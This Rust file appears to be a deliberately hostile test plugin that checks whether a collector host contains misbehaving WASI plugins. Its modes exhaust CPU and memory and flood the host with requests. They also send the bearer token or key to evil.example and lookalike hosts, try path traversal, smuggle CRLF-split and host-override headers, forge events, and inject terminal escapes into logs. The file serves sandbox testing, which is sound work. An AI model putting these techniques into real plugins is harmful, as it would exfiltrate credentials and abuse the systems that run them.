//! What the plugin does in place of what it should. The tables of `tests/hostile.rs` and `tests/limits.rs` name every
//! mode, and say how it ends.

use std::sync::atomic::{AtomicUsize, Ordering};

use waki::Client;
use waki::bindings::wasi::clocks::monotonic_clock;
use waki::bindings::wasi::http::types::{Fields, Method, OutgoingRequest};
use waki::bindings::wasi::io::poll as wasi_poll;

use crate::contract::collector::source::{credentials, log};
use crate::contract::*;
use crate::{Settings, failure, read};

pub fn problems(settings: &Settings, mut problems: Vec<Problem>) -> Vec<Problem> {
    let named = |amount: usize| Problem {
        setting: "/mode".to_owned(),
        found: "x".repeat(amount),
        expected: "another".to_owned(),
    };
    match settings.mode.as_str() {
        "problems" => problems.resize_with(settings.amount, || named(1)),
        "problems-one-by-one" => problems.truncate(1),
        "problem-bytes" => problems.push(named(settings.amount)),
        _ => {}
    }
    problems
}

pub fn plan(settings: &Settings, mut plan: Plan) -> Plan {
    let shape = plan.shapes[1].clone();
    match settings.mode.as_str() {
        "shapes" => plan.shapes.resize(settings.amount, shape),
        "shape-bytes" => plan.shapes.push(Shape { path: Path::Prefix(wide("/", settings.amount)), ..shape }),
        "method-bytes" => plan.shapes.push(Shape { method: wide("GET", settings.amount), ..shape }),
        "origin-bytes" => plan.shapes.push(Shape { origin: wide("https://", settings.amount), ..shape }),
        "sealed-key-bytes" => plan.shapes.push(Shape { captures: Some(wide("", settings.amount)), ..shape }),
        "credential-uses" => {
            let credentials = vec![shape.credentials[0].clone(); settings.amount];
            plan.shapes.push(Shape { method: "HEAD".to_owned(), credentials, ..shape });
        }
        "place-bytes" => {
            let place = Place::Header(wide("x-", settings.amount));
            let credentials = vec![CredentialUse { credential: Credential::Token, place }];
            plan.shapes.push(Shape { method: "HEAD".to_owned(), credentials, ..shape });
        }
        "timer-in-prepare" => monotonic_clock::subscribe_duration(1_000_000).block(),
        // The digits of its placeholder are its only dice.
        "plan-by-chance"
            if settings.key.ends_with(|digit: char| digit.to_digit(16).is_some_and(|digit| digit % 2 == 1)) =>
        {
            plan.shapes.push(Shape { method: "HEAD".to_owned(), ..shape });
        }
        "shape-odd" => plan.shapes.push(Shape { method: "get".to_owned(), ..shape }),
        _ => {}
    }
    plan
}

pub fn form(settings: &Settings, form: String) -> String {
    match settings.mode.as_str() {
        "request-bytes" => wide(&format!("{form}&more="), settings.amount),
        "key-guessed" => format!("key={}", settings.amount),
        _ => form,
    }
}

pub fn token(settings: &Settings, token: Token) -> Token {
    match settings.mode.as_str() {
        "token-bytes" => Token { value: wide("", settings.amount), ..token },
        "log-escapes" => Token { value: "\\".repeat(63) + "!", ..token },
        _ => token,
    }
}

pub fn discovery(settings: &Settings, mut found: Discovery) -> Discovery {
    let (scope, amount) = (found.scopes[0].clone(), settings.amount);
    match settings.mode.as_str() {
        "scopes" => found.scopes = (0..amount).map(|index| Scope { id: index.to_string(), ..scope.clone() }).collect(),
        "scopes-skipped" => {
            let reason = failure(Reaction::NoData, "absent", "it is disabled");
            found.skipped.resize(amount, SkippedScope { scope, reason });
        }
        "scopes-alike" => found.scopes.push(scope),
        "scope-id-odd" => found.scopes[0].id = "one\r\x1b[2K".to_owned(),
        "scope-id-bytes" => found.scopes[0].id = wide("", amount),
        "scope-owner-bytes" => found.scopes[0].owner = Some(wide("", amount)),
        "plugin-data-bytes" => found.scopes[0].plugin_data = wide("", amount),
        "scope-name-bytes" => found.scopes[0].name = Some(wide("", amount)),
        "notices" => found.notices.resize(amount, notice()),
        "notice-of-search-unlisted" => found.notices.push(unheard_of()),
        _ => {}
    }
    found
}

pub fn before_poll(settings: &Settings, token: &str) -> Result<(), Failure> {
    let (amount, origin) = (settings.amount, &settings.origin);
    let bearer = format!("Bearer {token}");
    match settings.mode.as_str() {
        "loop" => loop {
            std::hint::black_box(());
        },
        // Of a thousand turns each: the largest number of single ones takes a fast machine a second.
        "rounds" => (0..amount).for_each(|_| {
            (0..1_000).for_each(|turn| {
                std::hint::black_box(turn);
            });
        }),
        "levels" => drop(std::hint::black_box(deep(amount))),
        "trap" => panic!("on purpose"),
        "memory" => {
            let held = vec![1_u8; amount << 20];
            std::hint::black_box(held);
        }
        "wait" => monotonic_clock::subscribe_duration((amount as u64) * 1_000_000).block(),
        "pollables" => {
            let ready = monotonic_clock::subscribe_duration(0);
            drop(wasi_poll::poll(&vec![&ready; amount]));
        }
        "zeroes" => {
            let request = OutgoingRequest::new(Fields::new());
            let body = request.body().map_err(|()| told("no body"))?;
            let stream = body.write().map_err(|()| told("no stream"))?;
            stream.write_zeroes(amount as u64).map_err(|error| told(&format!("{error:?}")))?;
        }
        "address-bytes" => {
            let address = wide(&format!("{origin}/data/"), amount);
            drop(read(Client::new().get(&address).header("authorization", &bearer))?);
        }
        "handles" => (0..amount).for_each(|_| std::mem::forget(Fields::new())),
        "fields" => {
            let fields = Fields::new();
            for index in 0..amount {
                fields
                    .append(&format!("x-{index}"), &vec![b'x'; 1_024])
                    .map_err(|error| told(&format!("{error:?}")))?;
            }
        }
        "log-lines" => (0..amount).for_each(|index| log::write(log::Level::Info, &format!("line {index}"))),
        "log-bytes" => log::write(log::Level::Info, &wide("", amount)),
        "log-escapes" => {
            ["\\", "%", "&", "+"].iter().for_each(|escape| log::write(log::Level::Info, &escape.repeat(amount)))
        }
        "requests" => {
            for _ in 0..amount {
                read(Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer))?;
            }
        }
        "requests-in-vain" => {
            for _ in 0..amount {
                let _ = read(Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer));
            }
        }
        "requests-denied" => {
            for _ in 0..amount {
                let _ = read(Client::new().get("https://evil.example/"));
            }
        }
        "host-denied" => drop(read(Client::new().get("https://evil.example/").header("authorization", &bearer))?),
        "host-lookalike" => {
            drop(read(Client::new().get(&format!("{origin}.evil.example/data/1")).header("authorization", &bearer))?);
        }
        "host-user-name" => {
            let address = origin.replace("https://", "https://api.example@evil.example#");
            drop(read(Client::new().get(&format!("{address}/data/1")).header("authorization", &bearer))?);
        }
        "path-above" => {
            drop(read(Client::new().get(&format!("{origin}/data/../admin")).header("authorization", &bearer))?);
        }
        "method" => drop(read(Client::new().put(&format!("{origin}/data/1")).header("authorization", &bearer))?),
        "placeholder-of-another" => {
            let other = "Bearer sealed-00000000000000000000000000000000";
            drop(read(Client::new().get(&format!("{origin}/data/1")).header("authorization", other))?);
        }
        "token-in-query" => {
            let request = Client::new().get(&format!("{origin}/data/1?copy={token}"));
            drop(read(request.header("authorization", &bearer))?);
        }
        "key-in-header" => {
            let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
            drop(read(request.header("x-key", settings.key.as_str()))?);
        }
        "data-to-token-endpoint" => {
            let request = Client::new().post(&format!("{origin}/token"));
            let form = request.header("content-type", "application/x-www-form-urlencoded");
            drop(read(form.body(format!("key={}&stolen=a+page+of+a+tenant", settings.key).into_bytes()))?);
        }
        "assertion" => {
            if let Err(refusal) = credentials::client_assertion("key", "client", "audience") {
                return Err(told(&format!("{refusal:?}")));
            }
        }
        "request-words" => return Err(told(&hoarded(amount))),
        "headers" => return Err(told(&smuggled())),
        "compressed-echo" => {
            let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
            drop(read(request.header("accept-encoding", "br, gzip"))?);
        }
        "words-odd" => return Err(told("red\u{1b}[31m\nerror: feed good: it is broken\u{202e}")),
        _ => {}
    }
    Ok(())
}

/// Requests that are never sent, with words of so many bytes: those that the host keeps.
fn hoarded(bytes: usize) -> String {
    let kept = (0..100).filter(|index| {
        let request = OutgoingRequest::new(Fields::new());
        let kept = match index % 2 {
            0 => request.set_method(&Method::Other("X".repeat(bytes))),
            _ => request.set_authority(Some(&"x".repeat(bytes))),
        };
        std::mem::forget(request);
        kept.is_ok()
    });
    format!("{} of 100 were kept", kept.count())
}

/// Headers that change what a request is or where it goes: those that the host takes.
fn smuggled() -> String {
    let tries: &[(&str, &[u8])] = &[
        ("host", b"evil.example"),
        ("transfer-encoding", b"chunked"),
        ("connection", b"upgrade"),
        ("upgrade", b"h2c"),
        ("proxy-authorization", b"Basic x"),
        ("x-split", b"a\r\nhost: evil.example"),
        ("x-split: a\r\nhost", b"evil.example"),
    ];
    let fields = Fields::new();
    let taken = tries.iter().filter(|(name, value)| fields.append(&(*name).to_owned(), &value.to_vec()).is_ok());
    let taken: Vec<_> = taken.map(|(name, _)| *name).collect();
    format!("{} of {} were taken", taken.len(), tries.len())
}

pub fn step(settings: &Settings, page: usize, mut step: PollStep) -> PollStep {
    let amount = settings.amount;
    match settings.mode.as_str() {
        "pages" => step.next = (page < amount).then(|| (page + 1).to_string()),
        "cursor-loop" => step.next = Some("2".to_owned()),
        "cursor-bytes" if page == 1 => step.next = Some(format!("{}2", " ".repeat(amount - 1))),
        "kind-bytes" => step.pages[0].kind = wide("", amount),
        "page-bytes" => step.pages[0].body = vec![b' '; amount],
        "kind-undeclared" => step.pages[0].kind = "others".to_owned(),
        "notices-of-steps" => step.notices.resize(amount, notice()),
        "notice-of-step-unlisted" => step.notices.push(unheard_of()),
        _ => {}
    }
    step
}

pub fn failed(settings: &Settings, failure: Failure) -> Failure {
    match settings.mode.as_str() {
        "reaction-odd" => Failure { reaction: Reaction::NoData, ..failure },
        "code-unlisted" => Failure { code: "unheard-of".to_owned(), ..failure },
        _ => failure,
    }
}

pub fn batch(settings: &Settings, mut batch: Batch) -> Result<Batch, Failure> {
    let amount = settings.amount;
    let Some(event) = batch.events.first().cloned() else { return Ok(batch) };
    let body = |body: Vec<u8>| Event { body, ..event.clone() };
    match settings.mode.as_str() {
        "events" => {
            let one = |index: usize| Event { uid: format!("{}/{index}", event.uid), ..event.clone() };
            batch.events = (0..amount).map(one).collect();
        }
        "events-alike" => batch.events = vec![event; 2],
        "event-bytes" => {
            batch.events[1].body = format!("{{\"a\":\"{}\"}}", "x".repeat(amount - 8)).into_bytes();
        }
        "event-uid-bytes" => batch.events[0].uid = wide("", amount),
        "event-cut-short" => batch.events.push(body(b"{\"a\":".to_vec())),
        "event-on-two-lines" => batch.events.push(body(b"{\"a\":\n1}".to_vec())),
        "event-not-utf8" => batch.events.push(body(b"{\"a\":\"\xff\"}".to_vec())),
        "event-list" => batch.events.push(body(b"[]".to_vec())),
        "event-forged" => batch.events.push(body(b"{} {\"tenant\":\"other\"}".to_vec())),
        "copies" => batch.events = (0..amount).map(|_| body(aliased())).collect(),
        "state-bytes" => batch.state = vec![b'1'; amount],
        "state-foreign" => batch.state = b"the state of somebody else".to_vec(),
        "notices-of-batch" => batch.notices.resize(amount, notice()),
        "notice-unlisted" => batch.notices.push(unheard_of()),
        "measures" => {
            let measure = batch.measures[0].clone();
            batch.measures.resize(amount, measure);
        }
        "measure-odd" => batch.measures[0].value = f64::NAN,
        "measure-subject-bytes" => batch.measures[0].subject = wide("", amount),
        "memory-of-calls" => batch.state = format!("1 {}", CALLS.fetch_add(1, Ordering::SeqCst)).into_bytes(),
        "clock-in-event" => {
            let now = monotonic_clock::now();
            batch.events[1] =
                Event { uid: "now".to_owned(), ..body(format!("{{\"class_uid\":2003,\"now\":{now}}}").into_bytes()) };
        }
        "timer-in-normalize" => monotonic_clock::subscribe_duration(1_000_000).block(),
        "http-in-normalize" => drop(read(Client::new().get(&format!("{}/data/1", settings.origin)))?),
        _ => {}
    }
    Ok(batch)
}

/// Calls that this instance has seen.
static CALLS: AtomicUsize = AtomicUsize::new(0);

/// A mebibyte that is the same one each time: the host would copy it as often as it is told.
#[expect(unsafe_code, reason = "a hostile author writes this, and the host has to bear it")]
fn aliased() -> Vec<u8> {
    static ONE: std::sync::OnceLock<usize> = std::sync::OnceLock::new();
    const SIZE: usize = 1 << 20;
    let make = || {
        let mut body = b"{}".to_vec();
        body.resize(SIZE, b' ');
        body.shrink_to_fit();
        body.leak().as_mut_ptr() as usize
    };
    // SAFETY: never freed twice, because the host does not come back to free it.
    unsafe { Vec::from_raw_parts(*ONE.get_or_init(make) as *mut u8, SIZE, SIZE) }
}

fn deep(levels: usize) -> usize {
    if levels == 0 { 0 } else { std::hint::black_box(deep(std::hint::black_box(levels - 1)) + 1) }
}

/// A text of so many bytes that begins like this.
fn wide(begin: &str, bytes: usize) -> String {
    format!("{begin}{}", "x".repeat(bytes.saturating_sub(begin.len())))
}

fn told(words: &str) -> Failure {
    failure(Reaction::FixPlugin, "answer-odd", words)
}

fn notice() -> Notice {
    Notice { code: "absent".to_owned(), message: "there is less than there was".to_owned() }
}

fn unheard_of() -> Notice {
    Notice { code: "unheard-of".to_owned(), message: String::new() }
}
